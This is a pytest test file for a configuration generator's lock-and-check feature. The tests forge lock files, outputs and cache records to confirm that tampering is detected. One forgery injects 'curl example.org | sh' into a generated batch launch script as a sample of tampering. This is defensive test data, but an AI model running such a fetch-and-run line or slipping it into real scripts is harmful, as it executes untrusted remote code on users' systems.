"""A lock that was changed together with the files it names: hashes agree, and still it is found."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from nfconfgen import jsontext
from nfconfgen.fast import cache
from nfconfgen.fast.checksum import digest
from tests.cli import nfconfgen
from tests.fast.test_noticed import copied
from tests.pipeline.pipelines import HERE

Forgery = Callable[[Path, dict[str, Any]], None]


@pytest.fixture
def profile(tmp_path: Path) -> Path:
    return copied(tmp_path, "salmon")


def changed(name: str, before: str, after: str) -> Forgery:
    def forge(profile: Path, lock: dict[str, Any]) -> None:
        (path,) = (profile.parent / lock["output"]).glob(name)
        assert before in path.read_text()
        path.write_text(path.read_text().replace(before, after))
        lock["outputs"][path.relative_to(profile.parent / lock["output"]).as_posix()] = digest(path.read_bytes())

    return forge


def added(profile: Path, lock: dict[str, Any]) -> None:
    folder = profile.parent / lock["output"] / "conf"
    shutil.copy(folder / "slurm.config", folder / "other.config")
    lock["outputs"]["conf/other.config"] = lock["outputs"]["conf/slurm.config"]


def removed(profile: Path, lock: dict[str, Any]) -> None:
    (profile.parent / lock["output"] / "launch/run-slurm.sh").unlink()
    del lock["outputs"]["launch/run-slurm.sh"]


def moved(profile: Path, lock: dict[str, Any]) -> None:
    (profile.parent / lock["output"]).rename(profile.parent / "elsewhere")
    lock["output"] = "elsewhere/"


def not_built(profile: Path, lock: dict[str, Any]) -> None:
    profile.write_text(profile.read_text().replace("time: 1h", "time: 3h"))
    lock["profile"] = digest(profile.read_bytes())


def emptied(profile: Path, lock: dict[str, Any]) -> None:
    shutil.rmtree(profile.parent / lock["output"])
    lock["outputs"] = {}


FORGERIES: dict[str, Forgery] = {
    "config": changed("conf/slurm.config", "1.h", "9.h"),
    "profiles": changed("conf/profiles.config", "slurm.config", "../../elsewhere.config"),
    "script": changed("launch/run-awsbatch.sh", "set -euo", "curl example.org | sh; set -euo"),
    "definition": changed("launch/job-definitions/*.json", '"1024"', '"2048"'),
    "added": added,
    "removed": removed,
    "moved": moved,
    "not built": not_built,
    "emptied": emptied,
}


def forge(profile: Path, forgery: Forgery) -> None:
    path = profile.with_suffix(".lock.json")
    lock = json.loads(path.read_text())
    forgery(profile, lock)
    reseal(path, lock)


def reseal(path: Path, lock: dict[str, Any]) -> None:
    text = jsontext.dumps({**lock, "seal": ""})
    path.write_text(jsontext.dumps({**lock, "seal": digest(text)}))


def forge_record(profile: Path) -> None:
    """The files that another program of this user could write into the cache folder."""
    cache.remember_rendered(str(profile), profile.with_suffix(".lock.json").read_bytes())


def findings(ended: Any) -> list[dict[str, str]]:
    found: list[dict[str, str]] = json.loads(ended.out)["findings"]
    return found


@pytest.mark.parametrize("forgery", FORGERIES.values(), ids=list(FORGERIES))
def test_a_forged_lock(profile: Path, forgery: Forgery) -> None:
    forge(profile, forgery)
    # nothing here was rendered on this machine, so hashes are not believed
    plain = nfconfgen("check", profile, "--format", "json")
    assert plain.code == 1
    assert not json.loads(plain.out)["profiles"][0]["in_step"]
    assert not [one for one in findings(plain) if one["rule"] == "lock-changed" and len(findings(plain)) > 1]

    forge_record(profile)
    assert nfconfgen("check", profile).code == 0, "the quick check believes what this machine remembers"
    full = nfconfgen("check", profile, "--full", "--format", "json")
    in_ci = nfconfgen("check", profile, "--format", "json", environment=[("CI", "true")])
    assert (full.code, full.out) == (in_ci.code, in_ci.out) == (1, plain.out)
    assert nfconfgen("check", profile, "--full", "--format", "github").out.startswith("::error file=")
    assert nfconfgen("check", profile, "--full").code == 1, "what is found is not remembered as fine"


@pytest.mark.parametrize(("value", "code"), [("true", 1), ("1", 1), ("True", 1), ("false", 0), ("0", 0), ("", 0)])
def test_what_counts_as_ci(profile: Path, value: str, code: int) -> None:
    forge(profile, FORGERIES["config"])
    forge_record(profile)
    assert nfconfgen("check", profile, environment=[("CI", value)]).code == code


def test_what_is_up_to_date_is_so_in_full_too(profile: Path) -> None:
    for options in (["--full"], ["--full", "--format", "json"], ["--full", "--format", "github", "-q"]):
        full = nfconfgen("check", profile, *options)
        plain = nfconfgen("check", profile, *options[1:])
        assert full == plain
        assert full.code == 0


def test_the_finding_names_the_file_and_the_line(profile: Path) -> None:
    forge(profile, FORGERIES["config"])
    found = {one["rule"]: one for one in findings(nfconfgen("check", profile, "--format", "json"))}
    assert set(found) == {"not-reproduced", "outdated"}
    assert found["not-reproduced"]["file"] == str(profile.with_suffix(".lock.json"))
    assert found["outdated"]["file"].endswith("slurm.config")
    assert int(found["outdated"]["line"]) > 1
    assert nfconfgen("build", profile, "--offline").code == 0
    assert nfconfgen("check", profile, "--full").code == 0


def test_forged_facts_are_what_the_outputs_are_made_of(profile: Path) -> None:
    """Why docs/check.md names `check --live`."""

    def smaller(profile: Path, lock: dict[str, Any]) -> None:
        environments = lock["facts"]["awsbatch"]["eu-central-1"]["compute_environments"]
        environments["salmonWorkload"]["shapes"]["c5.2xlarge"]["memory_mib"] -= 100

    forge(profile, smaller)
    assert nfconfgen("build", profile, "--offline").code == 0
    assert nfconfgen("check", profile, "--full").code == 0


def test_a_forged_record_of_a_pipeline(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    monkeypatch.chdir(shutil.copytree(HERE / "cases/labels-of-nf-core", tmp_path / "reads"))
    assert nfconfgen("build", "profile.yml", "--offline").code == 0
    checked = nfconfgen("check", "profile.yml")
    assert checked.code == 1
    (record,) = (tmp_path / "cache/nfconfgen").glob("*.json")
    record.write_text(json.dumps({**json.loads(record.read_text()), "findings": []}))
    assert nfconfgen("check", "profile.yml").code == 0
    assert nfconfgen("check", "profile.yml", environment=[("CI", "true")]) == checked
    assert cache.folder() == str(tmp_path / "cache/nfconfgen")
    record.write_text(json.dumps({**json.loads(record.read_text()), "findings": []}))
    assert nfconfgen("check", "profile.yml", "--full") == checked
